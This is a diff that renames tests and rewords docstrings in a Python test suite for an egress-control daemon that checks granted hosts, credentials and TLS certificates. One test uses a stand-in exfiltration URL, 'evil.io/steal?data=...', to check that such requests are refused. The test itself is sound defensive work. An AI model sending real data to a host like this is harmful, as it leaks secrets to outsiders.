@@ -65,7 +65,7 @@ def assert_nothing_happened(world: World, upstream: Upstream) -> None:
 async def test_a_destination_that_is_not_granted_causes_no_lookup(
     world: World, tls_upstream: MakeUpstream, url: str, reason: str
 ) -> None:
-    """The cases are the ways to name another place than the granted one; the granted one works."""
+    """The cases name a host other than the granted one, in different ways; the granted host works."""
     with tls_upstream(lambda _seen: answer(b"ok")) as upstream:
         grant = world.grant_for(upstream, credential=use())
         error = await world.refusal(upstream, url=url.format(port=upstream.port), credential="api_key", grant=grant)
@@ -76,7 +76,7 @@ async def test_a_destination_that_is_not_granted_causes_no_lookup(
 
 
 async def test_a_denial_names_the_requested_and_the_granted_hosts(world: World, tls_upstream: MakeUpstream) -> None:
-    """Both are there for the envelope and for people; the query is in neither."""
+    """The agent's envelope and the message for people have both; the query is in neither."""
     with tls_upstream(lambda _seen: answer()) as upstream:
         error = await world.refusal(upstream, url="https://evil.io/steal?data=sesame")
 
@@ -110,7 +110,7 @@ async def test_a_url_without_a_usable_host_is_an_unknown_destination(world: Worl
         ("login", "login", "credential:login"),
     ],
 )
-async def test_another_credential_than_the_granted_one_is_refused(
+async def test_a_request_for_a_credential_that_is_not_granted_is_refused(
     world: World, tls_upstream: MakeUpstream, asked: str, granted: str | None, requested: str
 ) -> None:
     """The refusal comes before any lookup or loan; a request that names no credential gets none."""
@@ -199,7 +199,9 @@ async def test_a_name_that_resolves_to_an_internal_address_is_refused(
         assert (await world.ask(upstream, grant=allowed)).body == b"ok"
 
 
-async def test_an_exception_holds_for_one_port_of_one_name(world: World, tls_upstream: MakeUpstream) -> None:
+async def test_an_exception_for_a_private_address_holds_for_one_host_and_port(
+    world: World, tls_upstream: MakeUpstream
+) -> None:
     """Another port of the host is not excepted, nor is another host at the same port."""
     with tls_upstream(lambda _seen: answer()) as upstream:
         where = HostPort(HOST, upstream.port)
@@ -328,7 +330,7 @@ ACCEPTED_CERTIFICATES: dict[str, Callable[[Authority, Path], ssl.SSLContext]] = 
 
 @pytest.mark.parametrize("kind", [*REFUSED_CERTIFICATES, *ACCEPTED_CERTIFICATES])
 @pytest.mark.parametrize("protocol", ["http/1.1", "h2"])
-async def test_no_byte_is_sent_unless_the_certificate_is_accepted(
+async def test_no_byte_of_a_request_is_sent_before_the_server_s_certificate_is_accepted(
     world: World, authority: Authority, tmp_path: Path, kind: str, protocol: str
 ) -> None:
     """A server that cannot prove its name gets no byte of the request, with or without a credential; the others get all of it."""
@@ -382,7 +384,7 @@ async def test_no_byte_of_a_request_goes_to_a_host_that_cannot_prove_its_name(
     make: Callable[[Authority, Authority], ssl.SSLContext],
     words: str,
 ) -> None:
-    """Even the request line stays here; a good certificate for the same name passes."""
+    """Even the request line is withheld; a good certificate for the same name passes."""
     other = Authority(tmp_path_factory.mktemp("other"))
     with Upstream(lambda _seen: answer(), make(authority, other)) as upstream:
         error = await world.refusal(upstream, credential="api_key", grant=world.grant_for(upstream, credential=use()))
@@ -399,8 +401,10 @@ async def test_no_byte_of_a_request_goes_to_a_host_that_cannot_prove_its_name(
         assert (await world.ask(good)).body == b"ok"
 
 
-async def test_a_private_authority_is_not_trusted_without_the_setting(world: World, tls_upstream: MakeUpstream) -> None:
-    """`egress.ca_file` adds one; it is absent by default, and the system's authorities stay in use."""
+async def test_a_private_certificate_authority_is_trusted_only_through_the_setting(
+    world: World, tls_upstream: MakeUpstream
+) -> None:
+    """The setting is `egress.ca_file`. It adds an authority; the system's authorities stay in use."""
     with tls_upstream(lambda _seen: answer()) as upstream:
         assert (await world.ask(upstream)).status == 200
 
@@ -422,13 +426,13 @@ async def test_host_field_sni_and_resolver_get_the_same_name(world: World, autho
     assert world.resolver.asked == [HOST]
 
 
-async def test_the_environment_sets_neither_proxy_nor_authority(
+async def test_environment_variables_set_neither_a_proxy_nor_a_certificate_authority(
     authority: Authority,
     tls_upstream: MakeUpstream,
     monkeypatch: pytest.MonkeyPatch,
     tmp_path_factory: pytest.TempPathFactory,
 ) -> None:
-    """A proxy, another authority or a file for session keys can be set only in the configuration."""
+    """A proxy, an authority, or a file for TLS session keys can be set only in the configuration."""
     keys = tmp_path_factory.mktemp("keys") / "keys"
     with Upstream(lambda _seen: answer()) as proxy, tls_upstream(lambda _seen: answer(b"ok")) as upstream:
         for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
@@ -446,7 +450,7 @@ async def test_the_environment_sets_neither_proxy_nor_authority(
         assert (proxy.connections, keys.exists()) == (0, False)
 
 
-async def test_authorities_are_found_in_the_distributions_usual_places(
+async def test_certificate_authorities_are_found_in_the_usual_places_of_distributions(
     authority: Authority, tls_upstream: MakeUpstream, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """An OpenSSL built with other paths still finds the system's bundle."""
@@ -465,8 +469,8 @@ async def test_authorities_are_found_in_the_distributions_usual_places(
 @pytest.mark.parametrize(
     "content", ["", "not a certificate", "é", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"]
 )
-def test_an_authority_file_without_a_certificate_stops_the_daemon(authority: Authority, content: str) -> None:
-    """The daemon stops at its start and names the setting; a file with a certificate after text in any language is accepted."""
+def test_a_ca_file_without_a_certificate_keeps_the_daemon_from_starting(authority: Authority, content: str) -> None:
+    """The error names the setting. Text in any language before a certificate is accepted."""
     with pytest.raises(AileronError, match=r"egress\.ca_file holds no certificate"):
         client_context(content)
 
@@ -514,7 +518,7 @@ async def test_a_recorded_denial_names_only_host_and_port(world: World, url: str
 async def test_a_request_whose_denial_cannot_be_recorded_is_still_not_sent(
     world: World, tls_upstream: MakeUpstream, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """A full disk gives the invocation that error, and the request is not sent."""
+    """The ledger's disk is full: the invocation fails with that error."""
 
     async def full(_denial: object) -> None:
         raise AileronError(FailureClass.INTERNAL_ERROR, "the disk is full")
